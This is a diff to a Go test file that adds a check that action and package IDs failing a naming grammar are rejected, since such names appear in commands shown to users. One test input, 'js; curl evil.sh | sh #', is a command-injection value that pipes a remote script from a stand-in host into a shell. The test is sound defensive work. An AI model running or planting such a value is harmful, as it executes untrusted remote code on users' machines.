@@ -157,6 +157,27 @@ func TestForgetLeavesWhatBelongsToOthers(t *testing.T) {
 	}
 }
 
+// What a package names is shown to people in commands to run.
+func TestIDsOfActionsAndTasksAreHeldAgainstTheirGrammar(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	metadata := []byte(`{"name":"n","description":"","visibility":"enabled","allowedStatuses":"any","hasInput":false}`)
+	if err := w.Export(t.Context(), noon, "hello", "well-named", metadata); err != nil {
+		t.Fatal(err)
+	}
+	for _, id := range []string{"", "js; curl evil.sh | sh #", "Set", "a/b", "a--b", "-f", strings.Repeat("a", 200)} {
+		if err := w.Export(t.Context(), noon, "hello", id, metadata); !fault.Is(err, metav1.Reason_REASON_EFFECT_INVALID) {
+			t.Errorf("an action named %.40q: %v", id, err)
+		}
+		if err := w.CreateTask(t.Context(), noon, "hello", TaskRequest{ReplayID: "t", PackageID: "hello", ActionID: id}); !fault.Is(err, metav1.Reason_REASON_EFFECT_INVALID) {
+			t.Errorf("a task of an action named %.40q: %v", id, err)
+		}
+		if err := w.CreateTask(t.Context(), noon, "hello", TaskRequest{ReplayID: "t", PackageID: id, ActionID: "set"}); !fault.Is(err, metav1.Reason_REASON_EFFECT_INVALID) {
+			t.Errorf("a task of a package named %.40q: %v", id, err)
+		}
+	}
+}
+
 func TestOnlyAnActiveCriticalTaskBlocks(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
